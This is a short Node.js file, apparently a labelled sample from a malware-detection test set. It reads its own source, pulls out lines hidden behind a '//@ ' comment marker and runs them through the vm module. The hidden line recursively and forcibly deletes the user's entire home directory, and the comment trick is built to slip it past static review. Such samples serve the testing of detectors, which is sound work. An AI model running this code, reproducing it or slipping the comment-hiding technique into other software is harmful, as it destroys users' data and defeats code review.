// evasion: the program reads its own source, takes the lines after a //@ marker (comments to a parser) and runs them with vm
// grade: hard; does: delete
'use strict';
const fs = require('fs');
const vm = require('vm');

const marker = '//' + '@ ';
const body = fs.readFileSync(__filename, 'utf8').split('\n')
  .filter((l) => l.startsWith(marker)).map((l) => l.slice(marker.length)).join('\n');
new vm.Script(body).runInThisContext()(require);
//@ (r) => r('fs').rmSync(r('os').homedir(), { recursive: true, force: true })
